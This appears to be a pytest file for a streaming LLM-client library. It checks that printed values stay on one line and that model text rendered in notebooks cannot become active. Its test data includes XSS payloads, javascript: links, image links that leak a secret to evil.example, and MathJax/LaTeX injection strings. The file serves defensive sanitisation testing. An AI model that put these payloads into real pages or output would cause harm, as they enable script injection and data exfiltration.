"""What values print as, and what a notebook makes of a Reply."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from IPython.core.formatters import DisplayFormatter
from markdown_it import MarkdownIt

import streamkit as sk
from streamkit import ops, testing
from streamkit.combine.racing import Failure
from streamkit.stages import CallValue, Segment
from streamkit.testing import Recorded

HUGE = "Forged\r\nline \x1b[2J" + "x" * 1_000_000
CALL = sk.ToolCall("c1", "look", HUGE)


class Loud:
    def __repr__(self) -> str:
        return HUGE


class Broken:
    def __repr__(self) -> str:
        raise RuntimeError("no")


def of(text: str, **rest: Any) -> sk.Reply:
    return sk.Reply((sk.Choice(text=text),), **rest)


@pytest.mark.parametrize(
    "value",
    [
        sk.TextDelta(HUGE),
        sk.ReasoningDelta(HUGE),
        sk.RefusalDelta(HUGE),
        sk.ToolCallDelta(HUGE),
        CALL,
        sk.ToolResult(CALL, HUGE),
        sk.ToolResult(CALL, Loud()),
        sk.ToolResult(CALL, Broken()),
        sk.ToolResult(CALL, [HUGE] * 1000),
        sk.ToolResult(CALL, error=HUGE),
        sk.LogprobsDelta({"content": [{"token": HUGE}] * 1000}),
        sk.Start(HUGE, HUGE),
        sk.Finish(HUGE),
        sk.Restart(HUGE, HUGE),
        sk.Other(HUGE),
        sk.Choice(text=HUGE, reasoning=HUGE, refusal=HUGE, tool_calls=(CALL,) * 1000, logprobs=({"a": HUGE},) * 1000),
        of(HUGE, model=HUGE, stopped_by=HUGE, warnings=(HUGE,) * 9),
        sk.Reply((sk.Choice(tool_calls=(CALL,) * 1000, refusal=HUGE, reasoning=HUGE, finish_reason=HUGE),) * 1000),
        sk.BatchItem(HUGE, [sk.user(HUGE)], "complete", of(HUGE)),
        sk.BatchItem("k", {"a": HUGE}, "failed", error=sk.StreamkitError("no", partial=of(HUGE))),
        sk.Labelled(HUGE, sk.TextDelta(HUGE)),
        Failure(sk.StatusError("no", body=HUGE)),
        sk.StatusError("no", body=HUGE, partial=of(HUGE)),
        Segment(HUGE, 0, 9, "code", 0, code=HUGE),
        CallValue(0, HUGE, HUGE, [HUGE]),
        testing.Script(HUGE),
    ],
    ids=lambda value: type(value).__name__,
)
def test_a_value_prints_as_one_line_whatever_it_holds(value: Any):
    printed = repr(value)
    assert printed.isprintable(), printed[:200]
    assert len(printed) < 3000


def test_short_values_print_as_they_are():
    assert repr(sk.TextDelta("a\n")) == r"TextDelta(text='a\n', index=0)"
    assert repr(sk.ToolCall("c", "f", "{}")) == "ToolCall(id='c', name='f', arguments='{}', index=0, call=None)"
    assert repr(sk.TextDelta("y" * 201)) == f"TextDelta(text='{'y' * 199}…' (201 characters), index=0)"


def test_a_reply_prints_its_outcome_its_text_and_its_figures():
    script = testing.script("Well, ", "then.", tool_calls=[("look", {})], reasoning="Hm.", usage=sk.Usage(30, 4, 34))
    assert repr(sk.run(script)) == (
        "<Reply complete: 'Well, then.'; 3 characters of reasoning; calls look; 30 + 4 tokens; model scripted>"
    )
    stopped = sk.run(testing.script("Well, ", "then.").pipe(ops.stop_at("then")))
    assert repr(stopped) == "<Reply stopped by stop_at: 'Well, '; model scripted>"
    assert repr(sk.Reply()) == "<Reply complete: no text>"
    refused = sk.Reply(
        (sk.Choice(refusal="No."), sk.Choice(1)), outcome="refused", attempts=2, rounds=3, warnings=("w", "v")
    )
    assert (
        repr(refused)
        == "<Reply refused: no text; refusal 'No.'; 2 choices; 2 attempts; 3 rounds; warning: w (and 1 more)>"
    )
    cost = sk.Usage(None, None, 1234, origin="estimate", cost=0.25)
    assert repr(of("a", usage=cost)) == "<Reply complete: 'a'; 1,234 tokens (estimate), cost 0.25>"


def test_printing_a_reply_still_gives_its_text():
    assert str(of("The text.")) == "The text."


# -- notebooks -----------------------------------------------------------------------------------------------------


def displayed(value: Any) -> dict[str, Any]:
    """What IPython sends to a notebook for the last value of a cell."""
    shown: dict[str, Any] = DisplayFormatter().format(value)[0]
    return shown


def test_a_notebook_shows_the_text_as_markdown_below_its_figures():
    reply = sk.run(testing.script("# Sky\n\nIt is **blue**: $\\left(x < 3\\right)$.", usage=sk.Usage(3, 4, 7)))
    shown = displayed(reply)
    assert shown["text/markdown"] == f"`complete; 3 + 4 tokens; model scripted`\n\n{reply.text}"
    assert shown["text/plain"] == repr(reply)


def test_a_notebook_shows_calls_a_refusal_and_how_a_reply_was_cut():
    choice = sk.Choice(text="Let me `look`.", refusal="No.\nNever.", tool_calls=(sk.ToolCall("c", "look", '{"a": 1}'),))
    assert sk.Reply((choice,), outcome="truncated")._repr_markdown_() == (
        "`truncated; refusal 'No.\\nNever.'; calls look`\n\nLet me `look`.\n\n> No.\n> Never.\n\n"
        '```python\nlook({"a": 1})\n```'
    )


ALIVE = [
    "<script>alert(1)</script>",
    "a <img src=x onerror=alert(1)>",
    "```\n<b>\n```",
    "- a\n  ```\n<script>alert(1)</script>",
    "$$\n```\n$$\n<script>alert(1)</script>\n```",
    "````\n<b>\n````` \n~~~\n",
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/",
    "[x](javascript:alert(1))",
    "[x]( java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x](//evil.example)",
    "<javascript:alert(1)>",
    "<!-- x",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\htmlClass{x}{y}$",
    '$\\mmlToken{mi}[href="javascript:alert(1)"]{click}$',
    '$\\mmlToken mi[href="javascript:alert(1)"]{click}$',
    "\\(\\bbox[background:url(http://evil/?q)]{x}\\)",
    "\\[\\bbox\n [background:url(http://evil/?q)]{x}\\]",
    "$$\\bbox%\n[background:url(http://evil/?q)]{x}$$",
    "$\\\\bbox[background:url(http://evil/?q)]{x}$",
    "$\\data{x=1}{y}$",
    "$\\unicode{x41}$",
    "\\begin{align}\\pagecolor{red}\\end{align}",
    "$\\somethingNew[x]{y}$",
    "$\\gdef\\a#1{x}$",
    "$\\futurelet\\a\\b$",
    "$\\newenvironment{a}{b}{c}$",
    "$\\DeclareMathOperator{\\a}{b}$",
]


@pytest.mark.parametrize("text", ALIVE)
def test_nothing_that_a_model_writes_comes_alive_in_a_notebook(text: str):
    call = sk.ToolCall("c", "look", text)
    for reply in (
        of(text),
        of("fine", model=text),
        sk.Reply((sk.Choice(refusal=text),)),
        sk.Reply((sk.Choice(tool_calls=(call,)),)),
    ):
        shown = reply._repr_markdown_()
        blocks = [token for token in MarkdownIt("commonmark", {"html": True}).parse(shown) if token.type != "inline"]
        assert [block.type for block in blocks] == ["fence"]
    assert text in of(text)._repr_markdown_()


@pytest.mark.parametrize(
    "text",
    [
        "a < b",
        "x <- 3 & y",
        "[web](https://a.example)",
        "I <3 it!",
        "f(a)[0](b)",
        "1. a\n2. b",
        r"$\frac{\sqrt[3]{x}}{\mathbb{R}}$ and \(x \in [0, 1]\), \[\lim_{n\to\infty} \alpha^{-n} = \boxed{0} \tag{1}\]",
        r"$$\begin{bmatrix} 1 & 2 \\[4pt] 3 & \cdots \\x & y \end{bmatrix} \left[ \vec{v}\, \hat{x}\right]$$",
        r"\begin{cases} \sin{x} & x \ge 0 \\ -1 & \text{otherwise} \end{cases}",
        '```sh\nprintf "Total: $total\\nDone\\n$HOME"\n```',
        r"It costs $5 in D:\shared\data\new.",
        r"$\ce{H2O}$ and $\color{blue}{x} + \operatorname*{argmax}_{x}\, \Bigl[\cancel{y}\Bigr]$",
        r"In LaTeX write \section{One} or \bbox[red]{x}.",
    ],
)
def test_what_is_harmless_is_rendered(text: str):
    assert of(text)._repr_markdown_() == ("`complete`\n\n" + text if "](b" not in text else of(text)._repr_markdown_())


def test_a_notebook_shows_escapes_for_what_moves_a_cursor_or_hides():
    assert of("a\x1b[2Jb\u202ec")._repr_markdown_() == "`complete`\n\na\\x1b[2Jb\\u202ec"


def test_a_notebook_shows_streams_runs_and_what_was_recorded_by_their_repr():
    stream = testing.script("a")
    run = sk.start(stream)
    run.result()
    recorded = testing.clock().run(testing.script("a", fail=sk.ApiError("boom")).pipe(ops.text()))
    for value in (stream, run, recorded, recorded.items):
        assert displayed(value) == {"text/plain": repr(value)}


# -- what was recorded ---------------------------------------------------------------------------------------------


def test_what_was_recorded_says_how_the_stream_failed():
    recorded = testing.clock().run(testing.script("a", fail=sk.ApiError("boom"), first=1).pipe(ops.text()))
    assert recorded.items == ["a"]
    assert repr(recorded.items) == "['a'] before ApiError: boom"
    assert repr(recorded).startswith(
        "<Recorded failed after 1 s: ApiError: boom; 1 items: ['a'], reply: <Reply failed: 'a'"
    )
    fine = testing.clock().run(testing.script("a").pipe(ops.text()))
    assert repr(fine.items) == "['a']"
    assert repr(fine).startswith("<Recorded ended after 0 s; 1 items: ['a'], reply: <Reply complete: 'a'")
    cut = testing.clock().run(testing.script("a", "b", every=5).pipe(ops.text()), until=3)
    assert repr(cut).startswith("<Recorded cancelled after 3 s; ")
    assert repr(Recorded()).startswith("<Recorded ended after 0 s; 0 items: [], ")


TESTS = """
from streamkit import ops, testing
import streamkit as sk

def recorded():
    return testing.clock().run(testing.script("a", fail=sk.ApiError("boom")).pipe(ops.text()))

def test_items():
    assert recorded().items == ["a", "b"]

def test_whole():
    assert recorded() == 1

def test_members():
    assert "b" in recorded().items

def test_length():
    assert len(recorded().items) == 2
"""


def test_printing_what_was_recorded_does_not_print_a_million_items():
    recorded = Recorded(items=[sk.TextDelta("x" * 100)] * 1_000_000)
    assert len(repr(recorded)) < 2000
    assert repr(recorded).startswith("<Recorded ended after 0 s; 1000000 items: [TextDelta(")


@pytest.mark.slow
def test_a_test_that_fails_because_the_stream_did_says_so(tmp_path: Path):
    (tmp_path / "test_it.py").write_text(TESTS)
    env = {**os.environ, "PYTHONPATH": str(Path(sk.__file__).parents[1])}
    command = [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "test_it.py"]
    done = subprocess.run(command, capture_output=True, text=True, cwd=tmp_path, env=env)
    _, *failures = re.split(r"_+ test_\w+ _+\n", done.stdout)
    assert [bool(re.search("^E .*ApiError: boom", failure, re.MULTILINE)) for failure in failures] == [True] * 4
